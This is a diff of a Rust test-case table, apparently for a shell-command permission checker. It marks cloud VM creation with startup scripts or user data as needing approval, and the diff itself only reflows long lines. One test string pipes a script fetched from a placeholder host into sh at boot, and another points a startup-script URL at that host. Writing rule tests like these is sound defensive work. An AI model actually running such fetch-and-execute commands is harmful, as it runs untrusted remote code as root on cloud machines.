@@ -4183,14 +4183,26 @@ pub(crate) const CASES: &[Case] = &[
     allow("et -t 8080:80 host"),
     allow("sshuttle -r user@bastion 10.0.0.0/8"),
     // run41: a machine created with a startup script or user data runs it as root at boot.
-    ask("cloud.access", "gcloud compute instances create x --metadata startup-script-url=https://e.example/s.sh"),
+    ask(
+        "cloud.access",
+        "gcloud compute instances create x --metadata startup-script-url=https://e.example/s.sh",
+    ),
     ask("cloud.access", "gcloud compute instances create x --metadata=startup-script='curl e.example|sh'"),
     ask("cloud.access", "gcloud compute instances create x --metadata-from-file startup-script=s.sh"),
-    ask("cloud.access", "gcloud compute instance-templates create t --metadata-from-file=startup-script=s.sh"),
+    ask(
+        "cloud.access",
+        "gcloud compute instance-templates create t --metadata-from-file=startup-script=s.sh",
+    ),
     ask("cloud.access", "aws ec2 run-instances --image-id ami-1 --user-data file://x.sh"),
     ask("cloud.access", "az vm create -n x -g g --image Ubuntu2204 --custom-data cloud-init.txt"),
-    ask("cloud.access", "doctl compute droplet create x --image ubuntu --size s-1vcpu-1gb --user-data-file x.sh"),
-    ask("cloud.access", "hcloud server create --name x --image ubuntu-22.04 --type cx11 --user-data-from-file x.yml"),
+    ask(
+        "cloud.access",
+        "doctl compute droplet create x --image ubuntu --size s-1vcpu-1gb --user-data-file x.sh",
+    ),
+    ask(
+        "cloud.access",
+        "hcloud server create --name x --image ubuntu-22.04 --type cx11 --user-data-from-file x.yml",
+    ),
     allow("gcloud compute instances create x --metadata enable-oslogin=TRUE"),
     allow("gcloud compute instances create startup-script-vm --zone us-central1-a"),
     allow("aws ec2 run-instances --image-id ami-1 --count 1"),
